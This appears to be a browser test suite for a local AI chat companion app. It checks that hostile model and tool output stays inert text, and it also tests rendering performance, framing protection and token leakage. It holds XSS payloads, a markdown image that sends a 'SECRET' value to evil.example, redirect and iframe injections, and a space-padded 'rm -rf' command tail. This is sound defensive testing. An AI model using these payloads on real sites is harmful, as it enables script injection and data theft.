import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { closeBrowser, missing, newContext, openPage, passWelcome, say, startCompanion } from './harness.js';

const skip = missing() || false;
const attack = '<img src=x onerror=window.__pwned=1><svg/onload=window.__pwned=1>';
/** @type {any} */
let companion;
before(async () => {
  if (!skip) companion = await startCompanion({ files: { 'README.md': 'x' }, config: '[permissions]\ndirectories = ["R:./**"]\n' });
});
after(async () => {
  await closeBrowser();
  await companion?.clean();
});

/** Puts messages into a new chat, as if a model had written them, and opens it. @param {any} page @param {any[]} messages @param {string} [title] */
async function showMessages(page, messages, title = 'test') {
  const id = await page.evaluate(async ([list, name]) => {
    const { token } = JSON.parse(sessionStorage.getItem('zc.pairing') ?? '{}');
    const post = async (/** @type {string} */ path, /** @type {any} */ body) => (await fetch(path, { method: 'POST', headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }, body: JSON.stringify(body) })).json();
    const made = await post('/api/conversations', { title: name });
    const conversation = (made.conversation ?? made).id;
    let after = 0;
    let version = (await (await fetch(`/api/conversations/${conversation}`, { headers: { Authorization: `Bearer ${token}` } })).json()).version;
    for (let at = 0; at < list.length; at += 500) {
      const answer = await post(`/api/conversations/${conversation}/messages`, { version, after, messages: list.slice(at, at + 500) });
      ({ version } = answer);
      after = answer.seq.at(-1);
    }
    return conversation;
  }, [messages, title]);
  await page.evaluate((/** @type {string} */ to) => {
    location.hash = `#/chat/${to}`;
  }, id);
  await page.locator('.turn').first().waitFor();
}
const says = (/** @type {string} */ text, /** @type {number} */ n = 0) => ({ id: `m${n}`, role: 'assistant', data: { text } });

test('hostile text anywhere stays text; no script, no request, no violation', { skip, timeout: 90_000 }, async () => {
  const context = await newContext();
  const page = await openPage(context, companion.link());
  await passWelcome(page);
  await page.evaluate(() => {
    /** @type {any} */ (window).violations = [];
    document.addEventListener('securitypolicyviolation', (event) => /** @type {any} */ (window).violations.push(event.violatedDirective));
  });
  await showMessages(page, [
    { id: 'u', role: 'user', data: { text: attack } },
    { id: 'a', role: 'assistant', data: { text: attack, reasoning: attack, model: attack, calls: [{ id: '1', call_id: 'c1', tool: attack, arguments: { [attack]: attack } }] } },
    { id: 't', role: 'tool', data: { call_id: 'c1', tool: attack, status: 'error', is_error: true, text: attack, reason: attack } },
    says(`[x](javascript:window.__pwned=1) [x](java\nscript:window.__pwned=1) [x](data:text/html,<script>parent.__pwned=1</script>) [x](vbscript:x) [x](file:///etc/passwd) [good](https://example.org/a)`, 1),
    says('![x](https://evil.example/?d=SECRET)\n\n![r][1]\n\n[1]: https://evil.example/r.png\n\n<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><form action=//evil.example><input></form><style>*{display:none}</style><iframe src=//evil.example></iframe>', 2),
    { id: 'e', role: 'assistant', data: { text: '', error: { message: attack } } },
  ], attack);
  for (const button of await page.locator('.line, summary').all()) await button.click();
  await page.waitForTimeout(500);
  const state = await page.evaluate(() => ({
    pwned: /** @type {any} */ (window).__pwned, violations: /** @type {any} */ (window).violations,
    elements: document.querySelectorAll('.log :is(img, svg, base, meta, form, style, iframe, script)').length,
    links: [...document.querySelectorAll('.log a')].map((one) => /** @type {HTMLAnchorElement} */ (one)).filter((one) => !one.classList.contains('btn')).map(({ protocol, target, rel }) => `${protocol} ${target} ${rel}`),
    text: document.querySelector('.log')?.textContent?.includes('<img src=x onerror'),
  }));
  assert.deepEqual([state.pwned, state.violations, state.elements, state.text], [undefined, [], 0, true]);
  assert.deepEqual([...new Set(state.links)], ['https: _blank noopener noreferrer']);
  assert.deepEqual(page.faults, []);
  await context.close();
});

test('file names, contents and errors of tools stay text', { skip, timeout: 60_000 }, async () => {
  writeFileSync(join(companion.root, '<img src=x onerror=window.__pwned=1>.txt'), attack);
  const context = await newContext();
  const page = await openPage(context, companion.link());
  await passWelcome(page);
  await say(page, '/list_directory path=.');
  await page.locator('.line').waitFor();
  await page.locator('.line').click();
  await page.locator('.entries td', { hasText: '<img src=x' }).waitFor();
  await say(page, `/read_file path="<img src=x onerror=window.__pwned=1>.txt"`);
  await page.locator('.line').nth(1).click();
  await say(page, `/read_file path="${'nothing'}<svg onload=window.__pwned=1>"`);
  await page.locator('.line').nth(2).waitFor();
  assert.equal(await page.evaluate(() => /** @type {any} */ (window).__pwned), undefined);
  assert.deepEqual(page.faults, []);
  await context.close();
});

test('the tail of a command cannot be hidden', { skip, timeout: 60_000 }, async () => {
  const context = await newContext();
  const page = await openPage(context, companion.link());
  await passWelcome(page);
  await say(page, `/execute_command {"command": "ls${' '.repeat(1000)}; rm -rf x \\u202e\\u200b\\u001b[2K"}`);
  const card = page.locator('.card.ask');
  await card.waitFor();
  const text = await card.textContent();
  for (const part of ['␠×1000', '; rm -rf x', 'RLO', 'ZWSP', 'ESC', 'characters']) assert.ok(text.includes(part), part);
  assert.ok(!text.includes('\u202e'));
  assert.equal(await card.locator('.code').evaluate((/** @type {HTMLElement} */ box) => box.scrollWidth <= box.clientWidth + 1), true, 'nothing is to the right of the box');
  await page.waitForTimeout(600);
  await card.focus();
  await page.keyboard.press('4');
  await page.keyboard.press('Enter');
  await context.close();
});

test('huge markdown never blocks for long', { skip, timeout: 120_000 }, async () => {
  const context = await newContext();
  const page = await openPage(context, companion.link());
  await passWelcome(page);
  await showMessages(page, [says('warm **up**', 99)]);
  for (const [name, text] of [['line', 'a'.repeat(1 << 20)], ['items', Array.from({ length: 10_000 }, (_, i) => `- item ${i}`).join('\n')], ['quotes', `${'> '.repeat(500)}deep`]]) {
    await page.evaluate(() => {
      /** @type {any} */ (window).longest = 0;
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) /** @type {any} */ (window).longest = Math.max(/** @type {any} */ (window).longest, entry.duration);
      }).observe({ entryTypes: ['longtask'] });
    });
    await showMessages(page, [says(text, 1)], name);
    await page.waitForTimeout(1_000);
    const longest = await page.evaluate(() => /** @type {any} */ (window).longest);
    assert.ok(longest < 400, `${name}: ${longest} ms`);
    console.log(`# ${name}: longest task ${Math.round(longest)} ms`);
  }
  await context.close();
});

test('ten thousand messages open, scroll and type', { skip, timeout: 180_000 }, async () => {
  const context = await newContext();
  const page = await openPage(context, companion.link());
  await passWelcome(page);
  const list = Array.from({ length: 10_000 }, (_, i) => ({ id: `m${i}`, role: i % 2 ? 'assistant' : 'user', data: { text: `message ${i} with **words** and \`code\`` } }));
  await showMessages(page, list, 'long');
  await page.locator('.turn', { hasText: 'message 9999' }).waitFor();
  assert.ok(await page.locator('.turn').count() <= 1_000);
  await page.getByRole('button', { name: 'Show earlier messages' }).click();
  await page.locator('.turn', { hasText: 'message 9700' }).waitFor({ state: 'attached' });
  const took = await page.evaluate(async () => {
    const area = /** @type {HTMLTextAreaElement} */ (document.querySelector('.composer textarea'));
    const times = [];
    for (let i = 0; i < 20; i++) {
      const start = performance.now();
      area.value += 'x';
      area.dispatchEvent(new Event('input', { bubbles: true }));
      await new Promise(requestAnimationFrame);
      times.push(performance.now() - start);
    }
    return Math.max(...times.slice(2));
  });
  assert.ok(took < 120, `typing: ${took} ms`);
  await context.close();
});

test('the page does not show inside another origin', { skip, timeout: 60_000 }, async () => {
  const other = createServer((_, response) => response.setHeader('Content-Type', 'text/html').end(`<iframe src="${companion.origin}/"></iframe>`));
  await new Promise((resolve) => other.listen(0, '127.0.0.1', () => resolve(undefined)));
  const context = await newContext();
  const page = await context.newPage();
  await page.goto(`http://127.0.0.1:${/** @type {any} */ (other.address()).port}/`);
  await page.waitForTimeout(800);
  const inside = await page.frames()[1]?.evaluate(() => document.querySelector('#app')).catch(() => null);
  assert.equal(inside ?? null, null);
  await context.close();
  other.close();
});

test('another server on the port gets no token', { skip, timeout: 60_000 }, async () => {
  const own = await startCompanion({});
  const context = await newContext();
  const page = await openPage(context, own.address);
  await passWelcome(page);
  const { port } = own;
  await own.end();
  /** @type {string[]} */
  const seen = [];
  const squatter = createServer((request, response) => {
    seen.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`);
    if (request.url === '/api/prove') response.setHeader('Content-Type', 'application/json').end('{"proof":"00"}');
    else response.writeHead(404).end();
  });
  await new Promise((resolve) => squatter.listen(port, '127.0.0.1', () => resolve(undefined)));
  await page.getByText('zeroclaw open').first().waitFor({ timeout: 20_000 });
  assert.ok(seen.some((line) => line.includes('/api/prove')), 'the server was asked for its proof');
  assert.deepEqual(seen.filter((line) => /Bearer \S+/.test(line)), []);
  await context.close();
  squatter.close();
  await own.clean();
});
